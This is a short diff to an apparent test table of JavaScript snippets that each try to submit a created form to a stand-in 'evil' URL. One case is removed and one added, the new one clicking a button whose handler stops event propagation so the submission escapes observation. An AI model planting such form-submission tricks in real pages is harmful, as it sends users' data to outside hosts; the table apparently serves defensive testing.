@@ -79,12 +79,14 @@ const THROUGH_HOST: ReadonlyArray<readonly [name: string, code: string]> = [
 
 const NOWHERE: ReadonlyArray<readonly [name: string, code: string]> = [
   [
-    "a form in no document",
-    `const form = document.createElement("form"); form.action = evil; form.submit(); form.requestSubmit()`
-  ],
-  [
     "a form in the page",
     `const form = document.createElement("form"); form.action = evil; document.body.append(form); form.submit(); form.requestSubmit()`
+  ],
+  [
+    "a form in the page whose button keeps its press to itself",
+    `const form = document.createElement("form"); form.action = evil
+     const button = form.appendChild(document.createElement("button")); button.onclick = (event) => event.stopPropagation()
+     document.body.append(form); button.click()`
   ],
   [
     "a form in a tree of its own",
